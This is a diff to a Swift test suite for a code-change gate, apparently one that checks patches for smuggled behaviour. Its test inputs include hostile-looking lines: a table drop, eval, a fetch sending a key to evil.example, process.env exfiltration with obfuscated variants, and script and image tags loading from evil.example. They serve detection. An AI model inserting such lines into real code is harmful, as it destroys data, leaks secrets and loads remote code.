@@ -37,6 +37,29 @@ struct ProductGateTests {
             ("db.run('DROP TABLE orders')", "no-data-destroyed"), ("eval(code)", "nothing-smuggled"),
             ("fetch('https://evil.example/' + key)", "nothing-smuggled"),
             ("require('child_process')", "nothing-smuggled"), ("send(process.env)", "nothing-smuggled"),
+            ("import { readFileSync } from 'node:fs'", "nothing-smuggled"),
+            ("send(process['env'])", "nothing-smuggled"),
+            ("import left from 'left-pad'", "nothing-smuggled"), ("Function('return 1')()", "nothing-smuggled"),
+            ("send(globalThis['pro' + 'cess'])", "nothing-smuggled"), ("import('./x' + y)", "nothing-smuggled"),
         ])
     func smuggled(line: String, check: String) { #expect(failed(before + line + "\n") == [check]) }
+
+    @Test("A page may be mended, and may not load or send anything that it did not")
+    func pages() {
+        let page = "<button>Pay</button>\n"
+        let judge = { (after: String) in
+            failed(after, path: "app/cart.html", before: page, offered: ["app/cart.html"])
+        }
+        #expect(judge("<button type=\"button\">Pay</button>\n") == [])
+        for text in ["<script src=\"//evil.example/a.js\"></script>", "<img src='//evil.example'>", "<link href=x>"] {
+            #expect(judge(page + text + "\n") == ["nothing-smuggled"], "\(text)")
+        }
+    }
+
+    @Test(
+        "A program in a language that is not read is not run to prove it", arguments: ["py", "rb", "go", "php", "vue"])
+    func languages(ending: String) {
+        let path = "app/cart." + ending
+        #expect(failed("pay()\n", path: path, before: "", offered: [path]).contains("paths"))
+    }
 }
